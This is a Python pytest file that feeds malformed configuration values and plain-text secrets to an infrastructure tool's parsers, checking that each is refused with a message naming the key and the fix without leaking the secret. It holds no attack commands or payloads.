         "report.throughput.pattern", "fix it (Python's re syntax)"),
        ("description", "line one\nline two", "description", "keep it on one line"),
        ("surprise", {"a": 1}, "(top level)", "remove them or use one of: build, data"),
    ]
]

# Secrets in plain text (set without --secret): (the atlas: key, its value, the key path named).
SECRET_CASES: list[Case] = [
    Case(path, value, key, "pulumi config set --secret --path " + key, "secret")
    for path, value, key in [
        ("hpc", {"satori": {"private_key": PRIVATE_KEY}}, "atlas:hpc.satori.private_key"),
        ("hpc", {"satori": {"private_key_passphrase": PASSPHRASE}}, "atlas:hpc.satori.private_key_passphrase"),
        ("hpc", {"satori": {"known_hosts": PRIVATE_KEY}}, "atlas:hpc.satori.known_hosts"),
        ("aws", {"secret_access_key": AWS_SECRET_KEY}, "atlas:aws.secret_access_key"),
        ("openshift", {"data": {"sources": {"in": PRIVATE_KEY}}}, "atlas:openshift.data.sources.in"),
    ]
]

CASES: list[Case] = CONFIG_CASES + WORKLOAD_CASES + SECRET_CASES


def seeded_workload() -> dict[str, Any]:
    """The workload every workload case starts from: a step whose environment holds MARKER."""
    definition = folder_definition()
    definition["steps"][1]["env"] = {"SERVICE_TOKEN": MARKER}
    return definition


def refusal(case: Case) -> str:
    """The message `case`'s value is refused with (pytest.raises fails the test where it is taken)."""
    if case.kind == "secret":
        with pytest.raises(AtlasConfigError) as error:
            check_secrets_are_secret({case.path: case.value}, frozenset())
        # Set with --secret, the same value passes (the engine reports the key as secret).
        check_secrets_are_secret({case.path: case.value}, frozenset({f"atlas:{case.path}"}))
    elif case.kind == "config":
        with pytest.raises(AtlasConfigError) as error:
            parse_stack_config("hostile", with_value(BASE, case.path, case.value), REPO_ROOT)
    else:
        with pytest.raises(WorkloadError) as error:
            parse_workload(with_value(seeded_workload(), case.path, case.value))
    return str(error.value)


def parts(message: str) -> tuple[str, str, str]:
    """(the key named, what is wrong, the fix) of `<key>: <problem>; <fix>`."""
    key, colon, rest = message.partition(": ")
    problem, semicolon, fix = rest.partition("; ")
    assert colon and semicolon, f"not `<key>: <problem>; <fix>`: {message!r}"
    return key, problem, fix


@pytest.mark.parametrize("case", CASES, ids=[f"{c.kind}:{c.path}:{i}" for i, c in enumerate(CASES)])
def test_hostile_value_is_refused_naming_the_key_and_the_fix_never_a_secret(case: Case) -> None:
    message = refusal(case)
    key, problem, fix = parts(message)
    assert key == case.key, message
    assert problem.strip(), message
    assert case.fix in fix, message
    assert MARKER not in message, message
    assert "PRIVATE KEY-----" not in message, message


def test_the_base_stack_is_accepted_and_holds_its_secrets() -> None:
    """The cases refuse their own values, not the base's; the secrets are where the parsers read them."""
    config = parse_stack_config("hostile", BASE, REPO_ROOT)
    satori, lab = sorted(config.hpc, key=lambda env: env.name != "satori")
    assert satori.target.private_key_passphrase == PASSPHRASE
    assert lab.target.private_key == PRIVATE_KEY
    assert config.aws is not None and config.aws.credentials.secret_access_key == AWS_SECRET_KEY
    parse_workload(seeded_workload())


def reference_key(key: str) -> str:
    """A key a message names as the reference writes it: an environment's name as `<name>`, a list index as `[]`."""
    key = re.sub(r"^atlas:hpc\.[a-z0-9]([-a-z0-9]*[a-z0-9])?(?=\.|$)", "atlas:hpc.<name>", key)
    return re.sub(r"\[[0-9]+\]", "[]", key)


def test_every_key_of_the_reference_has_a_case() -> None:
    """Every key docs/configuration.md lists is named by at least one case's refusal."""
    reference = [row.key for row in rows()]
    assert len(reference) > 100, "the reference lists fewer keys than the models hold: is rows() still every key?"
    covered = {reference_key(case.key) for case in CONFIG_CASES}
    missing = [key for key in reference if key not in covered]
    assert not missing, f"keys of the configuration reference with no hostile case: {missing}"


@pytest.mark.parametrize(
    ("named", "reference"),
    [
        ("atlas:hpc.satori.host", "atlas:hpc.<name>.host"),
        ("atlas:hpc.satori", "atlas:hpc.<name>"),
        ("atlas:hpc", "atlas:hpc"),
        ("atlas:hpc.Satori_1", "atlas:hpc.Satori_1"),  # not a name an environment can have
        ("atlas:openshift.placement.tolerations[0].key", "atlas:openshift.placement.tolerations[].key"),
        ("atlas:aws.allowed_ssh_cidrs[12]", "atlas:aws.allowed_ssh_cidrs[]"),
    ],
)
def test_reference_key(named: str, reference: str) -> None:
    assert reference_key(named) == reference


def test_the_battery_is_counted() -> None:
    """docs/troubleshooting.md says how many hostile values the battery holds; the number comes from here."""
    doc = (REPO_ROOT / "docs" / "troubleshooting.md").read_text()
    found = re.search(r"hostile-input battery: \*\*(\d+) cases\*\*", doc)
    assert found is not None, "docs/troubleshooting.md: say `hostile-input battery: **N cases**`"
    assert int(found.group(1)) == len(CASES)
